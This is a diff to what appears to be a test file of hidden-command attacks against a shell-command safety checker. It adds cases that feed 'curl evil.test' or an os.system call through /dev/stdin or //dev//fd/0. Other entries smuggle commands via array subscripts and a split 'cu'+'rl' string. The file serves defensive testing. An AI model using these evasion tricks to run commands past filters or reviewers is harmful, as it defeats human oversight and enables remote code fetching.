@@ -209,6 +209,12 @@ HIDDEN_COMMANDS: dict[str, Attack] = {
     "printf's -v from a variable": run("x=-v; printf $x 'a[$(touch PWNED)]' 1"),
     "printf -v glued to its name": run("printf '-va[$(touch PWNED)]' 1"),
     "an integer variable's value": run("declare -i n; n='a[$(curl evil.test)]'", bypass=True),
+    "a shell's script named /dev/stdin": run(
+        "bash -- /dev/stdin <<< 'curl evil.test'", bypass=True
+    ),
+    "an interpreter's script named //dev//fd/0": run(
+        "python3 //dev//fd/0 <<< 'import os; os.system(\"touch PWNED\")'"
+    ),
     "python -m timeit": run(
         'python3 -m timeit \'import os; os.system("cu"+"rl evil.test"); 1/0\'', bypass=True
     ),
